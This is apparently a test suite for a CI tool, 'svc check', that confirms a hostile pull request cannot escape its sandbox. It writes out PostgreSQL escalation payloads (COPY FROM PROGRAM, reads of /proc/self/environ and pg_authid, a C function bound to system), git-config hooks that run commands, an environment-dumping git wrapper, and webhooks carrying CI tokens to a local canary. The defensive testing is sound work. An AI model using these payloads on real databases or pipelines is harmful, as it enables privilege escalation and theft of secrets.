/** `svc check` as a pipeline runs it: on a pull request with mistakes, and on one that means harm. */
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { chmod, readdir, readFile, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { delimiter, join } from 'node:path'
import { test } from 'node:test'
import { promisify } from 'node:util'
import { createSvcFolder, type SvcFolder } from './svc.ts'

const nowhere = { url: 'http://127.0.0.1:1', secret: 'canary-of-the-admin' }

const project = {
  'config.yaml': 'version: 3\n',
  'metadata/version.yaml': 'version: 3\n',
  'metadata/databases/databases.yaml': `- name: default
  kind: postgres
  configuration: { connection_info: { database_url: { from_env: DATABASE_URL } } }
  tables: ["!include default/tables/article.yaml"]
`,
  'metadata/databases/default/tables/article.yaml': `table: { schema: public, name: article }
select_permissions:
  - role: author
    permission:
      columns: [id, title]
      filter: { author: { _eq: X-Svc-User-Id } }
`,
  'migrations/default/1_article/up.sql': 'CREATE TABLE article (id int PRIMARY KEY, author text, title text);\n',
  'seeds/default/articles.sql': "INSERT INTO article VALUES (1, 'ann', 'Hello');\n",
  'tests/author.yaml': `role: author
session: { X-Svc-User-Id: ann }
tests:
  - { name: sees their own, query: "{ article { id } }", data: { article: [{ id: 1 }] } }
`,
} as const

async function commit(folder: SvcFolder, files: Readonly<Record<string, string>>): Promise<void> {
  for (const [file, text] of Object.entries(files)) await folder.write(file, text)
  const who = ['-c', 'user.name=a', '-c', 'user.email=a@example.com', '-c', 'commit.gpgsign=false']
  const git = (...args: readonly string[]) => promisify(execFile)('git', ['-C', folder.path, ...args])
  await git('init', '-q', '-b', 'main').catch(() => {})
  await git('add', '--', ...Object.keys(files))
  await git(...who, 'commit', '-q', '-m', 'project')
}

test('a check reports what would be refused, where, what changes in the API, and which tests fail', async (t) => {
  const folder = await createSvcFolder(nowhere, t)
  await commit(folder, project)
  await folder.write(
    'metadata/databases/default/tables/article.yaml',
    `table: { schema: public, name: article }
object_relationships:
  - name: editor
    using: { foreign_key_constraint_on: editor_id }
select_permissions:
  - role: author
    permission:
      columns: [id, text]
      fitler: {}
      filter: {}
  - role: editor
    permission:
      columns: [id]
      filter: { author: { _eq: X-Hasura-User-Id } }
`,
  )
  await folder.write('migrations/default/2_text/up.sql', 'ALTER TABLE article ADD COLUMN text text;\n')
  await folder.write('seeds/default/more.sql', "INSERT INTO article VALUES (2, 'bob', 'Draft');\n")
  const { code, stdout, stderr } = await folder.svc('check', '--base-ref', 'main', '--json')
  assert.equal(code, 1, stderr)
  const { right, findings, preview, tests, advice } = JSON.parse(stdout)
  const article = 'metadata/databases/default/tables/article.yaml'
  assert.equal(right, false)
  assert.deepEqual(
    findings.map(({ kind, file, line, object }: Record<string, unknown>) => ({ kind, file, line, object })),
    [
      { kind: 'metadata', file: article, line: 9, object: null },
      {
        kind: 'metadata',
        file: article,
        line: 14,
        object: 'select_permission editor in table article in source default',
      },
      { kind: 'metadata', file: article, line: 3, object: 'object_relation editor in table article in source default' },
    ],
  )
  const author = preview.roles.find(({ role }: { role: string }) => role === 'author')
  const changed = author.schema.changes.map(({ change, at }: Record<string, string>) => `${change} ${at}`)
  // the migration is part of it: the column was not there before
  assert.ok(changed.includes('FIELD_REMOVED article.title') && changed.includes('FIELD_ADDED article.text'), changed)
  assert.deepEqual(
    author.rows.map(({ part, change }: Record<string, string>) => `${part} ${change}`),
    ['filter wider'],
  )
  assert.equal(tests.results[0].outcome, 'failed')
  assert.match(tests.results[0].reason, /\+ {4}- id: 2/)
  assert.deepEqual(advice, [
    {
      rule: 'missing-index',
      object: 'select_permission editor in table article in source default',
      message: 'the filter compares public.article.author, which no index begins with',
      remedy: 'CREATE INDEX ON public.article (author);',
      silenced: null,
      file: article,
      line: 11,
    },
  ])
})

/** Each is tried by a migration; none may succeed. */
const attempts = {
  'a program by COPY': "COPY line_read FROM PROGRAM 'id'",
  'a program by COPY TO': "COPY line_read TO PROGRAM 'cat > /tmp/svc-check-canary'",
  'a file by COPY': "COPY line_read FROM '/etc/hostname'",
  'a file written by COPY': "COPY line_read TO '/tmp/svc-check-canary'",
  'a file by a function': "PERFORM pg_read_file('/proc/self/environ')",
  'a file of the cluster': "PERFORM pg_read_binary_file('postgresql.conf')",
  'a folder': "PERFORM pg_ls_dir('/')",
  'a large object': "PERFORM lo_import('/etc/hostname')",
  'a large object written': "PERFORM lo_export(1, '/tmp/svc-check-canary')",
  'the network by dblink': 'CREATE EXTENSION dblink',
  'the network by a foreign server': 'CREATE EXTENSION postgres_fdw',
  'files by a foreign server': 'CREATE EXTENSION file_fdw',
  'a wrapper of foreign data': 'CREATE FOREIGN DATA WRAPPER mine',
  'Perl without bounds': 'CREATE EXTENSION plperlu',
  'Python without bounds': 'CREATE EXTENSION plpython3u',
  'a language': 'CREATE LANGUAGE plpython3u',
  'a function of C': "CREATE FUNCTION run(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'",
  'an internal function': "CREATE FUNCTION inner_read(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'",
  'a library': "LOAD '/tmp/library.so'",
  'a role': 'CREATE ROLE other SUPERUSER',
  'a superuser': 'ALTER ROLE project SUPERUSER',
  'a database': 'ALTER DATABASE svc OWNER TO project',
  'the role of the engine': 'SET LOCAL ROLE svc',
  'the superuser': 'SET LOCAL SESSION AUTHORIZATION postgres',
  'the right to run programs': 'GRANT pg_execute_server_program TO project',
  'the right to read files': 'GRANT pg_read_server_files TO project',
  passwords: 'PERFORM rolpassword FROM pg_authid',
  'space without end': "SET LOCAL temp_file_limit = '-1'",
  'an event trigger':
    'CREATE EVENT TRIGGER mine ON ddl_command_end EXECUTE FUNCTION suppress_redundant_updates_trigger()',
  'what others run': "SET LOCAL session_preload_libraries = 'mine'",
  'a subscription': "CREATE SUBSCRIPTION mine CONNECTION 'host=127.0.0.1' PUBLICATION mine WITH (connect = false)",
} as const

const harmful = `CREATE TABLE line_read (line text);
CREATE TABLE attempt (name text PRIMARY KEY, has_succeeded bool);
${Object.entries(attempts)
  .map(
    ([name, sql]) => `DO $attempt$ BEGIN ${sql}; INSERT INTO attempt VALUES ('${name}', true);
EXCEPTION WHEN insufficient_privilege OR invalid_schema_name OR undefined_object OR undefined_file OR wrong_object_type OR
  invalid_parameter_value OR feature_not_supported OR cant_change_runtime_param OR object_not_in_prerequisite_state THEN
  INSERT INTO attempt VALUES ('${name}', false); END $attempt$;`,
  )
  .join('\n')}
`

test('a hostile pull request reads nothing, calls no server and runs nothing outside its own database', async (t) => {
  const called: string[] = []
  const server = createServer((request, response) => {
    called.push(request.url ?? '')
    response.end('{}')
  }).listen(0, '127.0.0.1')
  t.after(() => void server.close())
  await new Promise((resolve) => server.once('listening', resolve))
  const canary = `http://127.0.0.1:${(server.address() as AddressInfo).port}`

  const folder = await createSvcFolder(nowhere, t)
  await commit(folder, { ...project, '.gitattributes': '* filter=mine\n' })
  const ran = join(folder.path, 'ran')
  const settings = `[filter "mine"]
  smudge = touch ${ran}
  process = touch ${ran}
[core]
  fsmonitor = touch ${ran}
  hooksPath = ${join(folder.path, '.bin')}
[remote "origin"]
  url = ext::touch ${ran}
  promisor = true
`
  const config = join(folder.path, '.git/config')
  await writeFile(config, `${await readFile(config, 'utf8')}${settings}`)
  // what the process that judges has in its environment, as git finds it there
  const seen = join(folder.path, 'seen')
  const git = (process.env.PATH ?? '').split(delimiter)
  await writeFile(
    join(folder.path, '.bin/git'),
    `#!/bin/sh\n{ env; cat /proc/$PPID/environ; } >> '${seen}'\nPATH='${git.join(delimiter)}' exec git "$@"\n`,
  )
  await chmod(join(folder.path, '.bin/git'), 0o755)
  await folder.write('.env', 'SVC_GRAPHQL_METADATA_DIRECTORY=/etc\n')
  await folder.write('migrations/default/2_harm/up.sql', harmful)
  await folder.write(
    'metadata/databases/databases.yaml',
    `- name: default
  kind: postgres
  configuration:
    connection_info: { database_url: { from_env: CI_JOB_TOKEN } }
    read_replicas: [{ database_url: { from_env: CI_JOB_TOKEN } }]
  tables:
    - table: attempt
      select_permissions: [{ role: author, permission: { columns: "*", filter: {} } }]
      event_triggers:
        - name: changed
          definition: { enable_manual: true, insert: { columns: "*" } }
          webhook: ${canary}/event
          retry_conf: { num_retries: 0, interval_sec: 1, timeout_sec: 1 }
`,
  )
  await folder.write('metadata/actions.graphql', 'type Query { steal: String }\n')
  await folder.write(
    'metadata/actions.yaml',
    `actions:
  - name: steal
    definition:
      handler: ${canary}/action
      kind: ""
      headers: [{ name: X-Secret, value_from_env: CI_JOB_TOKEN }]
    permissions: [{ role: author }]
`,
  )
  await folder.write(
    'metadata/remote_schemas.yaml',
    `- name: far
  definition: { url: ${canary}/remote, headers: [{ name: X-Secret, value_from_env: CI_JOB_TOKEN }] }
`,
  )
  await folder.write(
    'metadata/opentelemetry.yaml',
    `status: enabled
data_types: [traces, metrics, logs]
exporter_otlp: { otlp_traces_endpoint: "${canary}/traces", otlp_metrics_endpoint: "${canary}/metrics", otlp_logs_endpoint: "${canary}/logs" }
`,
  )
  const none = Object.keys(attempts)
    .toSorted()
    .map((name) => ({ name, has_succeeded: false }))
  await folder.write(
    'tests/author.yaml',
    JSON.stringify({
      role: 'author',
      tests: [
        {
          name: 'each attempt was made and refused',
          query: '{ attempt(order_by: {name: asc}) { name has_succeeded } }',
          data: { attempt: none },
        },
        { name: 'no handler is called', query: '{ steal }', error: 'http exception when calling webhook' },
      ],
    }),
  )
  const secrets = 'SVC_GRAPHQL_ADMIN_SECRET=canary-of-the-admin CI_JOB_TOKEN=canary-of-the-job'
  const ended = await folder.shell(`${secrets} svc check --base-ref main --json > out.json 2> err.txt; echo $?`)
  const [stdout, stderr] = await Promise.all(
    ['out.json', 'err.txt'].map((file) => readFile(join(folder.path, file), 'utf8')),
  )
  const { findings, tests, notes } = JSON.parse(stdout || '{}')
  assert.deepEqual(
    tests?.results.map(({ name, outcome, reason }: Record<string, string>) => [name, outcome, reason]),
    [
      ['each attempt was made and refused', 'passed', ''],
      ['no handler is called', 'passed', ''],
    ],
    `${stdout}${stderr}`,
  )
  assert.deepEqual(notes, ['metadata/databases/default/tables/article.yaml is part of nothing that is read'])
  assert.deepEqual(
    findings.map(({ object }: Record<string, string>) => object),
    ['remote_schema far'],
  )
  assert.equal(ended, '1\n')
  assert.deepEqual(called, [])
  const environments = await readFile(seen, 'utf8')
  assert.match(environments, /SVC_RUNS_ALONE/)
  for (const text of [String(stdout), String(stderr), environments]) assert.doesNotMatch(text, /canary-of/)
  assert.ok(!(await readdir(folder.path)).includes('ran'), 'a command of the repository ran')
})

/** Where root's data lies whose temporary folder the account of PostgreSQL cannot enter. */
const movedData = async () =>
  (await readdir('/var/lib/svc-embedded').catch(() => [])).filter((name) => name.startsWith('svc-sandbox-'))

test('a migration without end is given up, and leaves nothing behind', async (t) => {
  const folder = await createSvcFolder(nowhere, t)
  for (const [file, text] of Object.entries(project)) await folder.write(file, text)
  await folder.write('migrations/default/2_sleep/up.sql', 'SELECT pg_sleep(100000);\n')
  await folder.write('temporary/.keep', '')
  const moved = await movedData()
  const run = await folder.shell(`TMPDIR='${folder.path}/temporary' svc check --time-limit 4; echo "exit $?"`)
  assert.match(run, /error: it took more than 4 s \(--time-limit\)\nexit 2\n$/)
  assert.deepEqual(await readdir(join(folder.path, 'temporary')), ['.keep'])
  assert.deepEqual(await movedData(), moved)
})

test('a migration that fills the disk is given up, and leaves nothing behind', async (t) => {
  const folder = await createSvcFolder(nowhere, t)
  for (const [file, text] of Object.entries(project)) await folder.write(file, text)
  const endless = 'LOOP INSERT INTO filled SELECT n, md5(n::text) FROM generate_series(1, 100000) n; END LOOP'
  await folder.write(
    'migrations/default/2_fill/up.sql',
    `CREATE TABLE filled (n integer, text text); DO $$ BEGIN ${endless}; END $$;\n`,
  )
  await folder.write('temporary/.keep', '')
  const moved = await movedData()
  const run = await folder.shell(`TMPDIR='${folder.path}/temporary' svc check --disk-limit 150; echo "exit $?"`)
  assert.match(run, /error: migrations, seeds and tests fill more than 150 MB of the disk \(--disk-limit\)\nexit 2\n$/)
  assert.deepEqual(await readdir(join(folder.path, 'temporary')), ['.keep'])
  assert.deepEqual(await movedData(), moved)
})

test('what cannot be checked ends with 2', async (t) => {
  const folder = await createSvcFolder(nowhere, t)
  await commit(folder, project)
  assert.match(
    await folder.shell('svc check --base-ref nowhere; echo "exit $?"'),
    /^error: there is no git ref nowhere here: fetch it first .*\nexit 2\n$/,
  )
})
